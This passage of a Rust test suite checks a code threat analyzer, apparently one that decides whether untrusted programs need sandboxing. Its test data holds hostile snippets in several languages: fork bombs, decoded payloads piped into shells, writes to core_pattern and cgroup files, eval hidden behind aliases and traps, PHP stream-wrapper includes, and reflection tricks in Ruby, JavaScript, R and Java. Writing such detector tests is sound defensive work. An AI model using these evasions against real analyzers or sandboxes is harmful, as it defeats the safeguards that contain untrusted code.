            ),
            (plain, "while true; do ( (sleep 1 &) ); done", rule),
        ],
    );
    assert_disguises_caught(
        "bash",
        &[
            (":(){ :|:& };:", "f() { sleep 9 & f; }; f", "bash.fork_bomb"),
            (
                ":(){ :|:& };:",
                "f() { (sleep 9 &); f; }; f",
                "bash.fork_bomb",
            ),
            (
                ":(){ :|:& };:",
                "f() { { sleep 9 & }; f; }; f",
                "bash.fork_bomb",
            ),
        ],
    );
    // Bounded loops and a loop that only waits stay below critical.
    for program in [
        "for ((i=0;i<4;i++)); do sleep 1 & done; wait",
        "for ((i=10;i>0;i--)); do sleep 1 & done; wait",
        "while [ \"$n\" -lt 4 ]; do sleep 1 & n=$((n+1)); done; wait",
        "while [ -n \"$x\" ]; do sleep 1 & x=; done",
        "while ((0)); do sleep 1 & done",
        "while read -r l; do (echo \"$l\" &); done < list.txt",
        "while true; do x=$((a & b)); break; done",
        "f() { g & }; f",
        "f() { f; sleep 1 & }",
    ] {
        let analysis = analyzer().analyze("bash", program.as_bytes());
        assert!(
            analysis.threat_level < ThreatLevel::Critical,
            "{program:?}\n{}",
            describe(&analysis)
        );
    }
}

/// Hunt benign F3: decompressed or hex-dumped data piped into an interpreter that runs a named
/// script, or literal code that only reads it, is the script's input, not code. An interpreter
/// given no script, or literal code that evaluates or runs something, runs what the pipe
/// carries; and `gzip -d`, `xz -d`, `zstd -d`, `bzip2 -d`, `tar -xO` decode as `zcat` does
/// (they graded `medium`).
#[test]
fn bash_decoded_data_piped_into_a_named_script_is_data() {
    assert_graded(
        "bash",
        ThreatLevel::Medium,
        &[
            "zcat /work/data.csv.gz | python3 /work/count.py\n",
            "gunzip -c /work/logs.gz | perl -ne 'print if /ERROR/'\n",
            "xxd -p /work/blob.bin | python3 parse_hex.py --width 32\n",
            "gzip -dc events.json.gz | python3 -u ./summarize.py > summary.txt\n",
            "bzcat words.bz2 | ruby -ne 'puts $_ if $_.length > 10' | sort | uniq -c\n",
            "zstd -dc metrics.zst | node ./plot.js\n",
            "xz -dc logs.xz | sh -c 'wc -l'\n",
            "base64 -d in.b64 | python3 -c 'import sys; print(sum(1 for _ in sys.stdin))'\n",
        ],
    );
    let plain = "echo aGk= | base64 -d | bash";
    let rule = "bash.decode_and_run";
    let mut cases: Vec<(&str, &str, &str)> = [
        "gzip -dc /work/p.gz | sh",
        "gzip -d -c /work/p.gz | sh",
        "gzip --decompress --stdout p.gz | bash",
        "xz -dc /work/p.xz | bash",
        "zstd -dc p.zst | bash",
        "bzip2 -dc p.bz2 | sh",
        "zstdcat p.zst | sh",
        "xzcat p.xz | sh",
        "tar -xOf p.tar run.sh | sh",
        "tar xOzf p.tgz run.sh | bash",
        "zcat p.gz | python3",
        "zcat p.gz | python3 -",
        "zcat p.gz | python3 -u -",
        "zcat p.gz | python3 -E -",
        "zcat p.gz | python3 -i x.py",
        "zcat p.gz | python3 -ic pass",
        "zcat p.gz | python3 /dev/stdin",
        "zcat p.gz | python3 -W ignore",
        "zcat p.gz | python3 -c 'import sys; exec(sys.stdin.read())'",
        "zcat p.gz | python3 -c 'import sys\nx = sys.stdin.read()\nexec(x)'",
        "zcat p.gz | python3 -c \"import code; code.interact()\"",
        "zcat p.gz | sh -s",
        "zcat p.gz | sh -s x.sh",
        "zcat p.gz | bash -s -- x.sh",
        "zcat p.gz | bash -e -s",
        "zcat p.gz | bash -c 'eval \"$(cat)\"'",
        "zcat p.gz | bash -c 'python3'",
        "zcat p.gz | perl",
        "zcat p.gz | perl -e 'eval join q(), <STDIN>'",
        "zcat p.gz | perl -ne 'system $_'",
        "zcat p.gz | perl -pe 's/(.*)/$1/ee'",
        "zcat p.gz | ruby",
        "zcat p.gz | ruby -E UTF-8",
        "zcat p.gz | ruby -ne 'eval $_'",
        "zcat p.gz | node",
        "zcat p.gz | node -r ./pre.js",
        "zcat p.gz | node -e 'require(\"vm\").runInThisContext(require(\"fs\").readFileSync(0, \"utf8\"))'",
        "zcat p.gz | php",
        "zcat p.gz | source /dev/stdin",
        "zcat p.gz | env python3 x.py",
        "zcat p.gz | \\python3 x.py",
        "zcat p.gz | python3 \"$s\"",
    ]
    .iter()
    .map(|&case| (plain, case, rule))
    .collect();
    cases.push((
        "eval \"$(echo aGk= | base64 -d)\"",
        "eval \"$(gzip -dc p.gz | cat)\"",
        "bash.eval_decoded",
    ));
    // A regression hunt: a named script the program links to its own input is the data.
    let stdin_script = "bash.decode_into_stdin_script";
    cases.extend([
        (
            plain,
            "ln -sf /dev/stdin job.sh\necho ZWNobw== | base64 -d | bash job.sh\n",
            stdin_script,
        ),
        (
            plain,
            "ln -sf /proc/self/fd/0 task.py\necho aW1wb3J0IG9z | base64 -d | python3 task.py\n",
            stdin_script,
        ),
        (
            plain,
            "ln -s /dev/fd/0 r.sh\ntar -xOf p.tar x | sh r.sh\n",
            stdin_script,
        ),
        (
            plain,
            "cp -P \"/proc/$$/fd/0\" run.pl\nzcat p.gz | perl run.pl\n",
            stdin_script,
        ),
    ]);
    assert_disguises_caught("bash", &cases);
}

/// Hunt benign F5: reading world-readable kernel information (`/proc/sys/kernel/random/uuid`
/// for an id, `pid_max`, the cgroup's `cpu.max` to size a pool) is a read outside the
/// workspace (medium), not a sandbox escape; writing to `/proc/sys` or a cgroup still is.
#[test]
fn reading_kernel_information_is_not_an_escape() {
    assert_graded(
        "bash",
        ThreatLevel::Medium,
        &[
            "id=$(cat /proc/sys/kernel/random/uuid)\necho \"run $id\"\n",
            "boot=$(< /proc/sys/kernel/random/boot_id)\nread -r max < /proc/sys/kernel/pid_max\n",
            "quota=$(cat /sys/fs/cgroup/cpu.max 2>/dev/null || echo max)\nmem=$(head -n1 \"/sys/fs/cgroup/memory.max\")\nls /sys/fs/cgroup\n",
            "id=$(tr -d - < /proc/sys/kernel/random/uuid)\n",
            // A regression hunt: tests and filters that only read were graded `high`.
            "sort -u /sys/fs/cgroup/cgroup.procs | uniq -c\nsed -n 1p /proc/sys/kernel/pid_max\n",
            "while read -r q p; do echo \"$q/$p\"; done < /sys/fs/cgroup/cpu.max\n",
            "[ -r /sys/fs/cgroup/cpu.max ] && awk '{print $1}' /sys/fs/cgroup/cpu.max\ncat '/sys/fs/cgroup/memory.max'\n",
        ],
    );
    assert_graded(
        "python",
        ThreatLevel::Medium,
        &[
            "with open(\"/sys/fs/cgroup/cpu.max\") as fh:\n    quota, period = fh.read().split()\n",
            "print(open(\"/proc/sys/kernel/random/uuid\", \"r\").read())\n",
            "with open('/proc/sys/kernel/pid_max', encoding='ascii') as f:\n    n = int(f.read())\n",
            "import os\nfd = os.open('/proc/sys/kernel/threads-max', os.O_RDONLY)\n",
        ],
    );
    assert_graded(
        "python",
        ThreatLevel::None,
        &["UUID = '/proc/sys/kernel/random/uuid'\nprint(open(UUID).read())\n"],
    );
    assert_graded(
        "c",
        ThreatLevel::Medium,
        &[
            "#include <stdio.h>\nint main(void) {\n    long n;\n    FILE *f = fopen(\"/proc/sys/kernel/pid_max\", \"r\");\n    if (f && fscanf(f, \"%ld\", &n) == 1) printf(\"%ld\\n\", n);\n    return 0;\n}\n",
            "#include <fcntl.h>\nint main(void) { return open(\"/proc/sys/kernel/random/boot_id\", O_RDONLY) < 0; }\n",
        ],
    );
    assert_graded(
        "cpp",
        ThreatLevel::Medium,
        &[
            "#include <fstream>\n#include <iostream>\nint main() {\n    std::ifstream in(\"/proc/sys/kernel/pid_max\");\n    long n = 0;\n    in >> n;\n    std::cout << n << '\\n';\n}\n",
            "#include <cstdio>\nint main() { FILE *f = std::fopen(\"/proc/sys/kernel/random/uuid\", \"r\"); return f == nullptr; }\n",
        ],
    );
    let cases = [
        ("bash", "echo 1 > /proc/sys/vm/drop_caches"),
        ("bash", "echo 1 >> \"/proc/sys/vm/drop_caches\""),
        ("bash", "echo '|/tmp/x' | tee /proc/sys/kernel/core_pattern"),
        ("bash", "cat payload > /proc/sys/kernel/core_pattern"),
        ("bash", "cp payload /proc/sys/kernel/core_pattern"),
        ("bash", "echo $$ > /sys/fs/cgroup/cgroup.procs"),
        ("bash", "echo 100000 > /sys/fs/cgroup/cpu.max"),
        ("bash", "exec 3<> /proc/sys/kernel/core_pattern"),
        ("bash", "p=/proc/sys/kernel/core_pattern; echo x > $p"),
        ("bash", "LC_ALL=C cat x > /proc/sys/kernel/core_pattern"),
        // A filter that reads may write too: in place, to an output file, to the file it reads.
        ("bash", "sed -i 's/x/y/' /proc/sys/kernel/core_pattern"),
        ("bash", "sed -ni 1p /sys/fs/cgroup/cpu.max"),
        ("bash", "sed --in-place=.bak 1d /proc/sys/kernel/core_pattern"),
        ("bash", "sort -o /proc/sys/kernel/core_pattern /tmp/x"),
        ("bash", "uniq /tmp/x /proc/sys/kernel/core_pattern"),
        ("bash", "awk '{print \"|/tmp/x\" > FILENAME}' /proc/sys/kernel/core_pattern"),
        ("bash", "gawk -i inplace '{print \"x\"}' /proc/sys/kernel/core_pattern"),
        ("bash", "echo x | tee '/proc/sys/kernel/core_pattern'"),
        ("bash", "[ -w /sys/fs/cgroup/cgroup.procs ] && echo $$ > /sys/fs/cgroup/cgroup.procs"),
        ("python", "open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/x')"),
        ("python", "open('/proc/sys/kernel/core_pattern', mode='a').write('x')"),
        ("python", "open('/proc/sys/kernel/core_pattern', 'r+').write('x')"),
        ("python", "p = '/proc/sys/kernel/core_pattern'\nopen(p, 'w').write('x')"),
        ("python", "import pathlib\npathlib.Path('/proc/sys/vm/drop_caches').write_text('3')"),
        ("python", "open('/sys/fs/cgroup/cgroup.procs', 'w').write('1')"),
        ("python", "open('/sys/fs/cgroup/cpu.max', 'w').write('max')"),
        ("python", "import os\nos.open('/proc/sys/kernel/core_pattern', os.O_WRONLY)"),
        ("c", "#include <stdio.h>\nint main(void) { FILE *f = fopen(\"/proc/sys/kernel/core_pattern\", \"w\"); return !f; }"),
        ("c", "#include <stdio.h>\nint main(void) { FILE *f = fopen(\"/proc/sys/kernel/core_pattern\", \"r+\"); return !f; }"),
        ("c", "#include <fcntl.h>\nint main(void) { return open(\"/proc/sys/kernel/core_pattern\", O_WRONLY); }"),
        ("c", "static const char *p = \"/proc/sys/kernel/core_pattern\";\nint main(void) { return 0; }"),
        ("cpp", "#include <fstream>\nint main() { std::ofstream f(\"/proc/sys/kernel/core_pattern\"); f << \"|/tmp/x\"; }"),
        ("cpp", "#include <fstream>\nint main() { std::fstream f(\"/proc/sys/kernel/core_pattern\", std::ios::out); }"),
        ("cpp", "#include <cstdio>\nint main() { FILE *f = fopen(\"/proc/sys/kernel/core_pattern\", \"w\"); }"),
        ("cpp", "#include <cstdio>\nint main() { remove(\"/proc/sys/kernel/core_pattern\"); }"),
    ];
    for (language, program) in cases {
        let rule = format!("{language}.sandbox_escape");
        assert_disguises_caught(language, &[(program, program, rule.as_str())]);
        assert_graded_at_least(language, ThreatLevel::High, &[program]);
    }
    // A regression hunt: a write through what a read left, a descriptor opened again or the
    // path a command printed.
    let reopened = [
        ("bash", "exec 3< /proc/sys/kernel/core_pattern\necho '|/tmp/x' > /dev/fd/3\n", "bash.sandbox_escape_reopened"),
        ("bash", "exec {fd}< /sys/fs/cgroup/cgroup.procs\necho $$ > \"/proc/$$/fd/$fd\"\n", "bash.sandbox_escape_reopened"),
        ("bash", "exec 2< /proc/sys/kernel/core_pattern\necho x > /dev/stderr\n", "bash.sandbox_escape_reopened"),
        ("bash", "p=$(ls -d /proc/sys/kernel/core_pattern); echo '|/tmp/x' | tee \"$p\"\n", "bash.sandbox_escape"),
        ("bash", "echo x | dd of=$(readlink -f /proc/sys/kernel/core_pattern)\n", "bash.sandbox_escape"),
        ("bash", "f=$(realpath /sys/fs/cgroup/cgroup.procs); echo $$ >> \"$f\"\n", "bash.sandbox_escape"),
        ("bash", "ls -d /proc/sys/kernel/core_pattern | xargs -I{} sh -c 'echo x > {}'\n", "bash.sandbox_escape"),
        ("python", "import os\nf = open('/proc/sys/kernel/core_pattern')\nos.write(os.open(f.name, os.O_WRONLY), b'|/tmp/x')\n", "python.sandbox_escape_reopened"),
        ("python", "f = open('/proc/sys/kernel/core_pattern')\nopen('/proc/self/fd/%d' % f.fileno(), 'w').write('|/tmp/x')\n", "python.sandbox_escape_reopened"),
        ("python", "import os\nwith open('/sys/fs/cgroup/cgroup.procs') as f:\n    pass\nwith open(f.name, 'a') as g:\n    g.write(str(os.getpid()))\n", "python.sandbox_escape_reopened"),
        ("python", "import os\nfd = os.open('/proc/sys/kernel/core_pattern', os.O_RDONLY)\nos.dup2(fd, 0)\nos.open('/proc/self/fd/0', os.O_WRONLY)\n", "python.sandbox_escape_reopened"),
    ];
    for (language, program, rule) in reopened {
        assert_disguises_caught(language, &[(program, program, rule)]);
        assert_graded_at_least(language, ThreatLevel::High, &[program]);
    }
    assert_graded(
        "bash",
        ThreatLevel::Medium,
        &["quota=$(cat /sys/fs/cgroup/cpu.max)\n[ -n \"$quota\" ] || echo 'no quota' > /dev/stderr\nls /sys/fs/cgroup\n"],
    );
}

#[test]
fn bash_eval_behind_an_alias_or_a_trap_is_read() {
    // Hunt lang F12: `alias e=eval` (with expand_aliases, or in a POSIX shell) and a trap's
    // command string, which the shell evaluates, ran decoded code graded `none`.
    let plain = "eval \"$c\"";
    assert_disguises_caught(
        "bash",
        &[
            (
                plain,
                "shopt -s expand_aliases\nalias e=eval\ne \"$c\"",
                "bash.hidden_command",
            ),
            (plain, "alias e='eval'\ne \"$c\"", "bash.hidden_command"),
            (plain, "alias \"e=eval\"\ne \"$c\"", "bash.hidden_command"),
            (
                plain,
                "alias e=\"builtin eval\"\ne \"$c\"",
                "bash.hidden_command",
            ),
            (
                plain,
                "alias ls='ls -l' e=\\\\eval\ne \"$c\"",
                "bash.hidden_command",
            ),
            (plain, "alias s=sudo\ns id", "bash.hidden_command"),
            (plain, "trap \"$c\" EXIT", "bash.eval"),
            (plain, "trap -- \"$c\" EXIT", "bash.eval"),
            (plain, "trap $c EXIT", "bash.eval"),
            (plain, "trap \"${c}\" INT", "bash.eval"),
            (plain, "trap \"$(cat cmd.txt)\" EXIT", "bash.eval"),
            (plain, "trap \"x; $(cat cmd.txt)\" EXIT", "bash.eval"),
            (plain, "trap \"echo \\\\$(cat cmd.txt)\" EXIT", "bash.eval"),
            (plain, "trap \"x; \\\\\\\\`cat cmd.txt`\" EXIT", "bash.eval"),
            (plain, "trap x\\\\$(cat cmd.txt) EXIT", "bash.eval"),
            (plain, "trap 'a\\'$(cat cmd.txt) EXIT", "bash.eval"),
            // An escaped one is the trap's own code, read as the program it is: as written
            // out, a command's output run as a command.
            (
                "$(cat cmd.txt)",
                "trap \"\\$(cat cmd.txt)\" EXIT",
                "bash.dynamic_command",
            ),
            (
                plain,
                "trap \"$(printf %s aWQ= | base64 -d)\" EXIT",
                "bash.eval_decoded",
            ),
        ],
    );
    // Ordinary aliases and traps of literal commands stay harmless.
    assert_graded(
        "bash",
        ThreatLevel::None,
        &[
            "alias ll='ls -l'\nalias evaluate=./evaluate.sh\ntrap 'rm -f \"$tmp\"' EXIT\ntrap cleanup INT TERM\ntrap - EXIT\ntrap '' HUP\necho ok\n",
            "trap \"rm -f $tmp\" EXIT\ntrap \"echo interrupted; exit 1\" INT\n",
            // Hunt benign F10: an escaped `$(` is text, run (and read) when the trap fires.
            "trap \"kill \\$(jobs -p) 2>/dev/null\" EXIT\n",
            "trap \"echo \\\"\\$(date +%T) finished\\\" >> $log\" EXIT\n",
            "trap \"echo \\`date\\` stopped\" INT\n",
        ],
    );
}

#[test]
fn php_ffi_through_callable_strings_and_arrays_is_read() {
    // Hunt lang F5: PHP calls a string `"Class::method"` and an array `[class, method]`, so
    // `"FFI::cdef"(…)` loaded libc graded `none`.
    let plain = "<?php FFI::cdef('int getpid();');";
    let rule = "php.native_code";
    assert_disguises_caught(
        "php",
        &[
            (
                plain,
                "<?php echo \"FFI::cdef\"(\"int getpid();\")->getpid();",
                rule,
            ),
            (
                plain,
                "<?php echo 'ffi::cdef'('int getpid();')->getpid();",
                rule,
            ),
            (plain, "<?php echo '\\FFI::load'('x.h')->getpid();", rule),
            (
                plain,
                "<?php $f = \"FFI::cdef\"; echo $f(\"int getpid();\")->getpid();",
                rule,
            ),
            (
                plain,
                "<?php $x = [\"FFI\", \"cdef\"]; echo $x(\"int getppid();\")->getppid();",
                rule,
            ),
            (
                plain,
                "<?php $x = array('FFI', 'cdef'); echo $x('int getppid();')->getppid();",
                rule,
            ),
            (
                plain,
                "<?php echo array_map(['\\FFI', 'cdef'], ['int getpid();']);",
                rule,
            ),
        ],
    );
    assert_graded(
        "php",
        ThreatLevel::None,
        &["<?php $a = ['FFIX', 'cdef']; $s = 'see FFI::cdef'; $b = [1, 'FFI']; echo count($a);"],
    );
}

#[test]
fn php_include_through_a_stream_wrapper_is_read() {
    // Hunt lang F6: `include "php://filter/convert.base64-decode/resource=p.txt"` decodes a
    // file and runs it, graded `none` (the analysis read `p.txt` as inline text).
    let plain = "<?php eval(base64_decode($p));";
    let rule = "php.decode_then_exec";
    assert_disguises_caught(
        "php",
        &[
            (
                plain,
                "<?php include \"php://filter/convert.base64-decode/resource=p.txt\";",
                rule,
            ),
            (
                plain,
                "<?php include 'php://filter/string.rot13/resource=p.txt';",
                rule,
            ),
            (
                plain,
                "<?php require_once('data:text/plain;base64,PD9waHAgc3lzdGVtKCJpZCIpOw==');",
                rule,
            ),
            (
                plain,
                "<?php require 'data://text/plain,<?php system(\"id\");';",
                rule,
            ),
            (plain, "<?php include_once 'phar://lib.phar/x.php';", rule),
            (plain, "<?php include 'compress.zlib://x.gz';", rule),
            (plain, "<?php include 'zip://a.zip#x.php';", rule),
            (plain, "<?php include 'glob://*.txt';", rule),
            (
                plain,
                "<?php include 'PHP://filter/read=convert.base64-decode/resource=p.txt';",
                rule,
            ),
        ],
    );
    assert_graded(
        "php",
        ThreatLevel::None,
        &["<?php include 'lib/util.php'; require_once __DIR__ . '/vendor/autoload.php'; include 'data.php';"],
    );
}

#[test]
fn ruby_native_libraries_by_joined_literals_shebang_switches_and_file_names_are_read() {
    // Hunt lang F7: `require "fid" "dle"` (adjacent literals are one string), `require
    // "fiddle.so"` and `#!/usr/bin/ruby -rfiddle` loaded Fiddle graded `none`; `-Ks` on the
    // `#!` line hid code in what the grammar read as a string.
    let plain = "require 'fiddle'";
    assert_disguises_caught(
        "ruby",
        &[
            (plain, "require \"fid\" \"dle\"", "ruby.eval"),
            (plain, "require 'fid' \\\n  'dle'", "ruby.eval"),
            (plain, "require \"fiddle.so\"", "ruby.native_code"),
            (plain, "require 'fiddle.rb'", "ruby.native_code"),
            (plain, "require 'ffi.so'", "ruby.native_code"),
            (plain, "#!/usr/bin/ruby -rfiddle\nx = 1", "ruby.native_code"),
            (
                plain,
                "#!/usr/bin/ruby -w -r fiddle\nx = 1",
                "ruby.native_code",
            ),
            (
                plain,
                "#!/usr/bin/env ruby -wrfiddle/import\nx = 1",
                "ruby.native_code",
            ),
        ],
    );
    assert_disguises_caught(
        "ruby",
        &[
            (
                "system('id')",
                "#!/usr/bin/ruby -ropen3\nx = 1",
                "ruby.process",
            ),
            (
                "require 'socket'",
                "#!/usr/bin/ruby -rsocket\nx = 1",
                "ruby.network",
            ),
        ],
    );
    assert_graded_at_least(
        "ruby",
        ThreatLevel::High,
        &[
            "#!/usr/bin/ruby -Ks\nx = \"\\x83\\\\\"; require %q(fiddle); #\"\nputs x.size\n",
            "#!/usr/bin/ruby --encoding=Shift_JIS\nputs 1\n",
        ],
    );
    assert_graded(
        "ruby",
        ThreatLevel::None,
        &[
            "#!/usr/bin/ruby -w -rjson -Ku\nrequire 'json'\nrequire 'set'\nputs JSON.generate([1])\n",
            "#!/bin/sh -rfiddle\nputs 1\n",
        ],
    );
}

#[test]
fn ruby_eval_by_templates_methods_by_built_name_and_symbols_as_procs_is_read() {
    // Hunt lang F8: ERB templates, `method` of a name built at run time, `:system.to_proc`,
    // `&:system` and `Gem::Util.popen` ran `id` graded `none`.
    let eval = "eval(code)";
    let system = "system('id')";
    assert_disguises_caught(
        "ruby",
        &[
            (
                eval,
                "require 'erb'\nputs ERB.new(%q{<%= Kernel.system(\"id\") %>}).result",
                "ruby.eval",
            ),
            (
                eval,
                "puts ERB.new(STDIN.read).result(binding)",
                "ruby.eval",
            ),
            (
                eval,
                "puts ::ERB.new(t).result_with_hash(a: 1)",
                "ruby.eval",
            ),
            (eval, "ERB.new(t, trim_mode: '-').run", "ruby.eval"),
            (
                eval,
                "erb = ERB.new(t)\nputs erb.result(binding)",
                "ruby.eval",
            ),
            (eval, "t.result_with_hash(x: 1)", "ruby.eval"),
            (
                eval,
                "Kernel.method(\"sys\" + \"tem\").call(\"id\")",
                "ruby.eval",
            ),
            (eval, "Kernel.method(name).call(\"id\")", "ruby.eval"),
            (
                eval,
                "Kernel.public_method(:\"sys#{x}\").call(\"id\")",
                "ruby.eval",
            ),
            (
                eval,
                "Kernel.singleton_method(n.to_sym).call(\"id\")",
                "ruby.eval",
            ),
            (eval, "[s].each(&:eval)", "ruby.eval"),
            (eval, ":instance_eval.to_proc.call(o, s)", "ruby.eval"),
            (
                system,
                ":system.to_proc.call(Kernel, \"id\")",
                "ruby.process",
            ),
            (system, "Kernel.then(&:system)", "ruby.process"),
            (system, "[\"id\"].each(&:`)", "ruby.process"),
            (system, ":`.to_proc.call(Kernel, 'id')", "ruby.process"),
            (system, ":exec.to_proc", "ruby.process"),
            (system, "Gem::Util.popen(\"id\")", "ruby.process"),
            (system, "::Gem::Util.silent_system('id')", "ruby.process"),
        ],
    );
    assert_graded(
        "ruby",
        ThreatLevel::None,
        &["puts [1, 2].map(&:to_s).inspect\nputs %w[a b].map(&:upcase).join\nm = method(:puts)\nm.call(1)\nputs r.result\n"],
    );
}

#[test]
fn ruby_send_of_a_harmless_literal_and_define_method_are_not_eval() {
    // Hunt lang F13: `send(:name)` with a literal, harmless name and `define_method` (everyday
    // Ruby) were graded `high` and sent programs to gVisor.
    assert_graded(
        "ruby",
        ThreatLevel::None,
        &[
            "class Foo\n  [:a, :b].each { |n| define_method(n) { n } }\nend\n",
            "o.send(:name)\no.public_send(:name)\no.__send__(\"size\")\nx.send(:+, 1)\nh.send(:[], k)\no.public_send(:valid?)\nm = method(:puts)\n",
        ],
    );
    let plain = "eval(code)";
    assert_disguises_caught(
        "ruby",
        &[
            (plain, "Kernel.send(:system, 'id')", "ruby.eval"),
            (plain, "Kernel.public_send('exec', 'id')", "ruby.eval"),
            (plain, "Kernel.send(:`, 'id')", "ruby.eval"),
            (plain, "IO.send(:popen, 'id')", "ruby.eval"),
            (plain, "o.send(name)", "ruby.eval"),
            (plain, "o.send(*args)", "ruby.eval"),
            (plain, "o.__send__(:\"sys#{x}\", 'id')", "ruby.eval"),
            (plain, "o.public_send(\"sys\" \"tem\", 'id')", "ruby.eval"),
            (plain, "Kernel.send :system, 'id'", "ruby.eval"),
        ],
    );
}

#[test]
fn javascript_bindings_workers_and_function_as_a_value_are_read() {
    // Hunt lang F9: `process[…]` by a built key, `require("process").binding`, a Worker of
    // code (`eval: true`, a `data:` URL), `Function` as a value and `module.constructor`
    // reached Node's bindings or ran code graded `none`.
    let native = "process.binding('spawn_sync');";
    let eval = "eval(code);";
    assert_disguises_caught(
        "javascript",
        &[
            (
                native,
                "const b = process[\"bind\" + \"ing\"](\"spawn_sync\");",
                "javascript.native_code",
            ),
            (
                native,
                "const b = process[k]('spawn_sync');",
                "javascript.native_code",
            ),
            (
                native,
                "const b = process[`${a}ing`]('spawn_sync');",
                "javascript.native_code",
            ),
            (
                native,
                "const b = require(\"process\").binding(\"spawn_sync\");",
                "javascript.native_code",
            ),
            (
                native,
                "const b = require('node:process')['binding']('spawn_sync');",
                "javascript.native_code",
            ),
            (
                native,
                "const p = require('process');\nconst b = p.binding('spawn_sync');",
                "javascript.process_module",
            ),
            (
                native,
                "import p from 'node:process';\np._linkedBinding('x');",
                "javascript.process_module",
            ),
            (
                native,
                "import * as p from 'process';\nconst f = p.dlopen;",
                "javascript.process_module",
            ),
            (
                native,
                "const { binding } = process;\nbinding('spawn_sync');",
                "javascript.native_code",
            ),
            (
                native,
                "const { binding: b } = require('process');\nb('spawn_sync');",
                "javascript.native_code",
            ),
            (
                eval,
                "const { Worker } = require('worker_threads');\nnew Worker(src, { eval: true });",
                "javascript.eval",
            ),
            (
                eval,
                "new wt.Worker('data:text/javascript,console.log(1)');",
                "javascript.eval",
            ),
            (
                eval,
                "new Worker(`data:text/javascript,${s}`);",
                "javascript.eval",
            ),
            (eval, "const f = Function;\nf(s)();", "javascript.eval"),
            (eval, "let f; f = Function;", "javascript.eval"),
            (
                eval,
                "Reflect.apply(Function, null, [s])();",
                "javascript.eval",
            ),
            (
                eval,
                "Reflect.construct(Function, [s])();",
                "javascript.eval",
            ),
            (eval, "[Function][0](s)();", "javascript.eval"),
            (eval, "(0, Function)(s)();", "javascript.eval"),
            (eval, "Function.call(null, s)();", "javascript.eval"),
            (eval, "const o = { f: Function };", "javascript.eval"),
            (
                eval,
                "module.constructor.prototype.require.call(module, 'child_process');",
                "javascript.eval",
            ),
            (
                eval,
                "module.constructor._load('child_process');",
                "javascript.eval",
            ),
        ],
    );
    assert_graded(
        "javascript",
        ThreatLevel::None,
        &[
            "const process = require('process');\nconsole.log(process.argv, process[Symbol.for('x')]);\nif (f instanceof Function) f();\nconst { Worker } = require('worker_threads');\nnew Worker('./worker.js', { workerData: 1 });\nconst t = typeof Function.prototype.call;\n",
            "const el = view.create();\nel.binding(x);\n",
        ],
    );
}

#[test]
fn r_functions_named_by_a_harmless_literal_are_not_eval() {
    // Hunt lang F13: `do.call("rbind", …)`, *the* R idiom for binding rows, `get("mtcars")`
    // and `match.fun("mean")` were graded `high` and sent ordinary programs to gVisor. A
    // literal name is graded by what it names.
    assert_graded(
        "r",
        ThreatLevel::None,
        &[
            "dfs <- lapply(1:3, function(i) data.frame(a = i))\nprint(nrow(do.call(\"rbind\", dfs)))\n",
            "m <- get(\"mtcars\")\nf <- match.fun(\"mean\")\ng <- get0('iris', envir = e)\nx <- do.call(what = \"cbind\", args = l)\ny <- do.call(quote = FALSE, \"paste\", list(1))\nh <- getFunction('sum')\n",
        ],
    );
    let plain = "eval(parse(text = s))";
    assert_disguises_caught(
        "r",
        &[
            (plain, "do.call(\"system\", list(\"id\"))", "r.eval"),
            (plain, "get(\"dyn.load\")(\"x.so\")", "r.eval"),
            (plain, "get(envir = baseenv(), \"eval\")(e)", "r.eval"),
            (plain, "f <- match.fun(\"system\"); f(\"id\")", "r.eval"),
            (plain, "f <- match.fun(name)", "r.eval"),
            (plain, "f <- match.fun(paste0(\"sys\", \"tem\"))", "r.eval"),
            (plain, "f <- base::match.fun(\".Call\")", "r.eval"),
            (plain, "f <- getFunction(n)", "r.eval"),
            (plain, "do.call('\\x73ystem', list('id'))", "r.eval"),
        ],
    );
}

#[test]
fn java_native_loads_through_a_held_runtime_beans_jshell_and_compilers_are_read() {
    // Hunt lang F10: `var r = Runtime.getRuntime(); r.load(…)`, `java.beans.Statement`,
    // JShell and the system Java compiler loaded native code or ran code graded `none`.
    let native = "class A { static { System.loadLibrary(\"x\"); } }";
    let reflection = "class A { void f() throws Exception { Class.forName(s); } }";
    assert_disguises_caught(
        "java",
        &[
            (native, "public class Main { public static void main(String[] a) { var r = Runtime.getRuntime(); r.load(\"/usr/lib/x86_64-linux-gnu/libz.so.1\"); } }", "java.held_runtime"),
            (native, "class A { void f() { Runtime r = Runtime.getRuntime(); if (x) { r.load(p); } } }", "java.held_runtime"),
            (native, "class A { static final java.lang.Runtime RT = java.lang.Runtime.getRuntime(); void f() { RT.load(p); } }", "java.held_runtime"),
            (native, "class A { private final Object rt = Runtime.getRuntime(); void f() { ((Runtime) rt).load(p); } }", "java.native_code"),
            (native, "class A { void f(Runtime r) { r.load(p); } }", "java.held_runtime"),
            (native, "class A { A(Runtime r) { r.load(p); } }", "java.held_runtime"),
            (native, "Runtime r = Runtime.getRuntime();\nvoid main() { r.load(\"x\"); }", "java.held_runtime"),
            // A regression hunt: a Runtime declared by a loop, a lambda's parameter or a pattern.
            (native, "class H8 { void f() { Runtime r = Runtime.getRuntime(); for (Runtime x : new Runtime[]{r}) x.load(\"/tmp/x.so\"); } }", "java.held_runtime"),
            (native, "class I1 { void f() { Object o = Runtime.getRuntime(); Runtime keep = null; if (o instanceof Runtime x) x.load(\"/tmp/x.so\"); } }", "java.held_runtime"),
            (native, "class I1 { void f(Object o) { if (!(o instanceof java.lang.Runtime x)) { return; } x.load(p); } }", "java.held_runtime"),
            (native, "class I2 { java.util.function.Consumer<Runtime> c = (Runtime x) -> x.load(\"/tmp/x.so\"); }", "java.held_runtime"),
            (native, "class I3 { void f(Runtime r) { for (Runtime x = r; x != null; x = null) x.load(\"/tmp/x.so\"); } }", "java.held_runtime"),
            (native, "class I3 { void f() { for (var x = Runtime.getRuntime(); ; ) { x.load(p); break; } } }", "java.held_runtime"),
            (native, "class I4 { void f() { var r = Runtime.getRuntime(); switch ((Object) r) { case Runtime x -> x.load(\"/tmp/x.so\"); default -> {} } } }", "java.held_runtime"),
            (native, "record Box(Object v) {}\nclass I5 { void f(Box b) { if (b instanceof Box(Runtime x)) x.load(p); switch (b) { case Box(Runtime y) -> y.load(p); default -> {} } } }", "java.held_runtime"),
            (native, "class A { void f(Loader l) { l.loadLibrary(\"x\"); } }", "java.native_code"),
            (native, "class A { void f() { java.util.function.Consumer<String> c = System::load; c.accept(p); } }", "java.native_code"),
            (native, "class A { void f() { list.forEach(Runtime.getRuntime()::loadLibrary); } }", "java.native_code"),
            (native, "class A { void f() { java.lang.System.load(p); } }", "java.native_code"),
